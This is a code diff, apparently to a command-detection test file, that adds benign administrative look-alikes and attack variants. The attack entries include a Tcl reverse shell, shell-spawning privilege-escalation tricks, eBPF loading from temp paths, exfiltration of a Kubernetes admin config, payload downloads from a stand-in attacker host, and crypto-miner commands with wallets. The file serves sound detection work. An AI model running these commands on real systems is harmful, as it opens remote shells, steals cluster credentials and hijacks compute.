@@ -49,6 +49,8 @@ const BENIGN_LOOK_ALIKES = [
 `etcdctl --cacert /etc/kubernetes/pki/etcd/ca.crt --cert /etc/kubernetes/pki/etcd/server.crt --key /etc/kubernetes/pki/etcd/server.key member list`,
 `tar -czf /backups/k3s-$(date +%F).tgz /var/lib/rancher/k3s/server/db /var/lib/rancher/k3s/server/token`, `echo '0 4 * * * root /usr/local/bin/prune.sh' | sudo tee /etc/cron.d/prune`,
 `rsync -a /etc/rancher/k3s/k3s.yaml admin@10.0.0.30:.kube/`, `restic -r rest:http://10.0.0.50:8000/k3s backup /var/lib/rancher/k3s/server`, `iptables -D INPUT -j KUBE-FIREWALL`,
+`HTTPS_PROXY=http://10.0.0.1:3128 curl -fsSL https://example.org/install.sh -o install.sh`, `finger alice`, `run-parts --report /etc/cron.daily`, `curl -s http://10.0.0.5:8080/healthz`,
+`ssh -L 8080:localhost:80 -N bastion`, `dnf install -y https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm`, `ping -c 3 1.1.1.1`,
 ];
 
 const ATTACK_VARIANTS = [
@@ -93,6 +95,13 @@ const ATTACK_VARIANTS = [
 `tar czf backup@203.0.113.9:/srv/etc.tgz /etc --rsh-command=/usr/bin/ssh`, `restic -r rest:http://45.77.1.2:8000/r backup /etc/kubernetes/pki`, `ruby -run -e httpd /root -p 9000`,
 `./miner -algo kawpow -pool1 rvn.2miners.com:6060 -wallet RJ7yQe6GkN4s6Z9kC9wXhFgMZzV8b3H1eS`, `bminer -uri ethstratum+ssl://0x3fd05afac3e2edced734c32fd7bb2f176c588298.w@eu1.ethermine.org:5555`,
 `echo c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGUub3JnOjMzMzM= | base64 -d`,
+
+`./start-stop-daemon --start --exec /bin/bash -- -p`, `run-parts --regex '^bash$' /usr/bin`, `echo 'set c [socket 198.51.100.7 9001]; while {[gets $c l] >= 0} {eval $l}' | tclsh`,
+`ip link set dev eth0 xdpgeneric obj /tmp/x.o sec xdp`, `bpftool prog loadall /dev/shm/k.o /sys/fs/bpf/k`, `finger root@198.51.100.7`, `rsh 198.51.100.7 id`,
+`curl -O http://198.51.100.7/tools/x`, `dnf install -y http://198.51.100.7/p.rpm`, `scp root@198.51.100.7:/kit.tgz .`, `socat - udp:198.51.100.7:53`, `ncat 198.51.100.7 8443`,
+`ssh -g -L 8080:10.0.0.9:80 user@bastion`, `ssh -N -D 0.0.0.0:1080 user@host`, `ALL_PROXY=http://198.51.100.7:1080 wget -q https://example.org/x`, `nping --tcp -p 22 198.51.100.7`,
+`ssh u@198.51.100.7 'cat > x' < /etc/kubernetes/admin.conf`, `./gpu-agent --url=0x3fd05afac3e2edced734c32fd7bb2f176c588298.w1@eth.example.org:4444 --par=ethash`,
+`./agent --mining-wallet dero1qyxk2xd6f0gp7wkqrwcfzlq2rv6qj5v7x9yp5kxk0m8ykt8a2xk9qqgl9a5ls --daemon-address pool.example.net:10100`,
 ];
 
 /**
